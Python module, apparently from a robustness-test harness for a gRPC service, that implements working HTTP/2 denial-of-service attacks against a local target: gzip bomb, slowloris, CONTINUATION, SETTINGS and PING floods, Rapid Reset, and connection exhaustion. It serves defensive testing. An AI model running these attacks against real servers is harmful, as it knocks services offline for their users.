"""What is done to a server. None of it brings a token.

Each attack is a function of a target and the moment at which it ends. It runs in processes of its
own, so that it costs the measuring client nothing but the processor.
"""

import functools
import gzip
import select
import socket
import ssl
import struct
import time

import http2
from http2 import (ACK, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS,
                   WINDOW_UPDATE, CONTINUATION, Connection, call_headers, frame, header_block,
                   message)

CREATE = "/osiedle.contacts.v1.ContactService/CreateContact"
REFLECT = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
# What a closed or refusing peer makes a socket say: the attack goes on with a new connection.
REFUSED = (OSError, ssl.SSLError, ConnectionError, TimeoutError)


class Target:
    def __init__(self, port, tls, source):
        self.address = ("127.0.0.1", port)
        self.tls = tls
        # Attackers have an address of their own.
        self.source = source

    def connect(self, **more):
        return Connection(self.address, tls=self.tls, source=self.source, **more)


def _again(until, once):
    """Runs `once` until the end; a refusal is a short pause."""
    while time.monotonic() < until:
        try:
            once()
        except REFUSED:
            time.sleep(0.02)


def _read_away(connection):
    """Whatever has come, without looking at it."""
    while connection.pending() or select.select([connection.socket], [], [], 0)[0]:
        if not connection.socket.recv(65536):
            raise ConnectionError("closed")


@functools.cache
def _zeros():
    return message(gzip.compress(bytes(300 << 20)), compressed=True)


def compressed(target, until):
    """Four at once, again and again: 300 MiB of zeros in 300 KB of gzip."""
    zeros = _zeros()

    def once():
        connection = target.connect()
        try:
            stream = connection.stream()
            connection.send(frame(HEADERS, END_HEADERS, stream,
                                  call_headers(CREATE, ("grpc-encoding", "gzip"),
                                               scheme=connection.scheme)))
            connection.send_data(stream, zeros, until)
            connection.answer(stream)
        finally:
            connection.close()

    _again(until, once)


def half_sent(target, until):
    """A hundred requests on a connection: a million bytes of an announced MiB each, then silence."""
    connection = target.connect()
    begin = struct.pack(">BI", 0, 1 << 20) + bytes(1_000_000)
    left = {}
    window, first = 65535, 65535
    windows = {}
    for _ in range(100):
        stream = connection.stream()
        connection.send(frame(HEADERS, END_HEADERS, stream,
                              call_headers(CREATE, scheme=connection.scheme)))
        left[stream], windows[stream] = begin, first
    connection.socket.settimeout(0.2)
    while time.monotonic() < until:
        moved = False
        for stream, data in left.items():
            size = min(len(data), windows[stream], window, 16384)
            if size > 0:
                connection.send(frame(DATA, 0, stream, data[:size]))
                left[stream] = data[size:]
                windows[stream] -= size
                window -= size
                moved = True
        try:
            while True:
                if moved and not connection.pending() and not select.select(
                        [connection.socket], [], [], 0)[0]:
                    break
                got = connection.read_frame()
                if got is None:
                    return
                kind, flags, stream, payload = got
                if kind == WINDOW_UPDATE:
                    size = int.from_bytes(payload, "big") & 0x7FFFFFFF
                    if stream == 0:
                        window += size
                    elif stream in windows:
                        windows[stream] += size
                elif kind == RST_STREAM:
                    left.pop(stream, None)
                elif kind in (SETTINGS, PING) and not flags & ACK:
                    connection.send(frame(kind, ACK, 0, b"" if kind == SETTINGS else payload))
                if not moved:
                    break
        except TimeoutError:
            pass


def silent(target, until):
    """Connections that say nothing, as many as one address may have descriptors for."""
    held = []
    while time.monotonic() < until and len(held) < 1100:
        try:
            plain = socket.socket()
            plain.bind((target.source, 0))
            plain.settimeout(0.5)
            plain.connect(target.address)
            held.append(plain)
        except REFUSED:
            time.sleep(0.01)
    time.sleep(max(0.0, until - time.monotonic()))


def slow(target, until):
    """Two hundred connections, a byte at a time: half of them headers, half of them a body."""
    connections = []
    for number in range(200):
        try:
            connection = target.connect(timeout=0.5)
            headers = call_headers(CREATE, scheme=connection.scheme)
            stream = connection.stream()
            if number % 2:
                data = frame(HEADERS, END_HEADERS, stream, headers)
            else:
                connection.send(frame(HEADERS, END_HEADERS, stream, headers))
                data = frame(DATA, 0, stream, struct.pack(">BI", 0, 1 << 20) + bytes(10_000))
            connections.append([connection, data])
        except REFUSED:
            time.sleep(0.01)
    while time.monotonic() < until:
        for slot in connections:
            try:
                slot[0].send(slot[1][:1])
                slot[1] = slot[1][1:]
            except REFUSED:
                pass
        time.sleep(0.2)


def continuation(target, until):
    """A header block that never ends: CONTINUATION after CONTINUATION."""
    literal = header_block([("x-" + "a" * 100, "b" * 4000)]) * 3

    def once():
        connection = target.connect(timeout=2)
        try:
            stream = connection.stream()
            connection.send(frame(HEADERS, 0, stream,
                                  call_headers(CREATE, scheme=connection.scheme)))
            while time.monotonic() < until:
                connection.send(frame(CONTINUATION, 0, stream, literal))
        finally:
            connection.close()

    _again(until, once)


def _flood(frames, reads=True):
    def attack(target, until):
        def once():
            connection = target.connect(timeout=2)
            try:
                while time.monotonic() < until:
                    connection.send(frames)
                    if reads:
                        _read_away(connection)
            finally:
                connection.close()

        _again(until, once)
    return attack


settings = _flood(frame(SETTINGS, 0, 0, struct.pack(">HI", http2.INITIAL_WINDOW_SIZE, 65535)) * 500,
                  reads=False)
settings.__doc__ = "SETTINGS without end; what the server acknowledges is not read."
ping = _flood(frame(PING, 0, 0, bytes(8)) * 500, reads=False)
ping.__doc__ = "PING without end; what the server answers is not read."


def rapid_reset(target, until):
    """Calls that are taken back as soon as they are made."""

    def once():
        connection = target.connect(timeout=2)
        block = call_headers(CREATE, scheme=connection.scheme)
        try:
            while time.monotonic() < until:
                burst = bytearray()
                for _ in range(100):
                    stream = connection.stream()
                    burst += frame(HEADERS, END_HEADERS, stream, block)
                    burst += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
                connection.send(bytes(burst))
                _read_away(connection)
        finally:
            connection.close()

    _again(until, once)


def never_reading(target, until):
    """Asks for descriptions, for which no token is needed, and reads none of them."""
    # grpc.reflection.v1: field 4, file_containing_symbol.
    symbol = b"osiedle.contacts.v1.ContactService"
    ask = message(bytes((4 << 3 | 2, len(symbol))) + symbol) * 20
    held = []

    def once():
        connection = target.connect(
            timeout=0.5, receive_buffer=4096,
            settings=struct.pack(">HI", http2.INITIAL_WINDOW_SIZE, 0x7FFFFFFF))
        held.append(connection)
        connection.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFF0000 - 65535)))
        for _ in range(50):
            stream = connection.stream()
            connection.send(frame(HEADERS, END_HEADERS, stream,
                                  call_headers(REFLECT, scheme=connection.scheme)) +
                            frame(DATA, 0, stream, ask))

    while time.monotonic() < until and len(held) < 40:
        try:
            once()
        except REFUSED:
            time.sleep(0.02)
    time.sleep(max(0.0, until - time.monotonic()))


class Attack:
    def __init__(self, run, processes, descriptors=None, holds_straight=True, prepare=None):
        self.run = run
        self.processes = processes
        # `ulimit -n` of the server.
        self.descriptors = descriptors
        # False: gRPC itself does not stand this, and the proxy is there for it.
        self.holds_straight = holds_straight
        # What takes the attackers time, before they begin.
        self.prepare = prepare


ATTACKS = {
    "compressed": Attack(compressed, 4, prepare=_zeros),
    "half_sent": Attack(half_sent, 3),
    "silent_1024": Attack(silent, 1, descriptors=1024),
    "silent_160": Attack(silent, 1, descriptors=160),
    "slow": Attack(slow, 1),
    "continuation": Attack(continuation, 2, holds_straight=False),
    "settings": Attack(settings, 2),
    "ping": Attack(ping, 2),
    "rapid_reset": Attack(rapid_reset, 2, holds_straight=False),
    "never_reading": Attack(never_reading, 1),
}
QUICK = ("compressed", "half_sent", "silent_160", "slow")
